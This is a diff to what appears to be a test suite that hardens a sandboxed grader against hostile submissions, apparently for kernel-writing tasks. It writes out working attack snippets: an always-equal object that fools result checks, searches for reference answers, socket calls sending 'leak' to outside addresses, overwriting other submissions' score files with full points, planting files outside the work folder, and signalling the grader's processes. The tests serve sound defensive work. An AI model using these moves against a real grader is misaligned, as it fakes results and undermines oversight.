@@ -152,7 +152,7 @@ if os.fork() == 0:
             time.sleep(0.02)
     os._exit(0)
 time.sleep(0.1)
-""" + ZEROS), outcomes=("wrong",)),
+""" + ZEROS), outcomes=("wrong", "exception")),  # setsid is refused (seccomp): the forked child raises
     # ---- returning things that are not plain arrays of numbers
     Attack("always_equal", "classic_kernels", "classic_kernels", _function("kernels", "def classic_kernels():", """
 class AlwaysEqual:
@@ -287,7 +287,7 @@ for root in roots:
                 pass
 print("\\n".join(found))
 return found
-"""), outcomes=("wrong",), requires=("mount", "pid")),
+"""), outcomes=("wrong", "exception")),  # minimal: listing /proc is refused
     Attack("read_the_references", "conv1d_full", "conv1d_full", _conv1d("""
 import importlib, os, sys
 for path in ("/work/main", "../..", "../../..", "/root"):
@@ -322,7 +322,7 @@ for init in [path for pattern in patterns for path in glob.glob(pattern + "/torc
     spec.loader.exec_module(module)
     return np.asarray(module.tensor(np.convolve(f, g)))
 return "no torch here"
-"""), outcomes=("wrong",), requires=("mount",)),
+"""), outcomes=("wrong", "exception")),
     Attack("network", "conv1d_full", "conv1d_full", _conv1d("""
 import socket
 for address in (("127.0.0.1", __PORT__), ("10.0.2.2", 80), ("1.1.1.1", 53)):
@@ -331,7 +331,49 @@ for address in (("127.0.0.1", __PORT__), ("10.0.2.2", 80), ("1.1.1.1", 53)):
             connection.sendall(b"leak")
     except OSError:
         pass
-""" + ZEROS), outcomes=("wrong",), requires=("net",)),
+""" + ZEROS), outcomes=("wrong",)),
+    # ---- what a same-uid process could do without namespaces
+    Attack("tamper_with_a_neighbour", "conv1d_full", "conv1d_full", _conv1d("""
+import glob, os
+changed = []
+patterns = ["../../../*/results/submissions/*/record.json", "/tmp/*/results/submissions/*/record.json",
+            "/tmp/pytest-of-*/*/*/results/submissions/*/record.json", os.path.expanduser("~") + "/**/record.json"]
+for pattern in patterns:
+    for path in glob.glob(pattern, recursive=True)[:50]:
+        try:
+            with open(path, "w") as record:
+                record.write('{"points": 1.0}')
+            changed.append(path)
+        except OSError:
+            pass
+return changed
+"""), outcomes=("wrong",)),
+    Attack("write_outside_the_work_folder", "conv1d_full", "conv1d_full", _conv1d("""
+import os, sys
+written = []
+for folder in (os.path.expanduser("~"), "/tmp", "..", "../..", "/work/main", "/var/tmp", "/dev/shm",
+               os.path.dirname(os.__file__), os.path.dirname(np.__file__)):
+    try:
+        with open(os.path.join(folder, "convlab-hostile-planted"), "w") as planted:
+            planted.write("x")
+        written.append(folder)
+    except OSError:
+        pass
+return written
+"""), outcomes=("wrong",)),
+    Attack("signal_the_grader", "conv1d_full", "conv1d_full", _conv1d("""
+import os, signal
+sent = []
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.access("/proc", os.R_OK) else range(1, 4096):
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGSTOP)
+            os.kill(pid, signal.SIGCONT)
+            sent.append(pid)
+        except OSError:
+            pass
+return sent
+"""), outcomes=("wrong", "exception")),
     # ---- files the sandbox must never copy or import
     Attack("shipped_python_files", "conv1d_full", "conv1d_full", extra_files={
         name: "import os\nprint('convlab-hostile-imported')\nopen('/tmp/convlab-hostile-planted', 'w').close()\n"
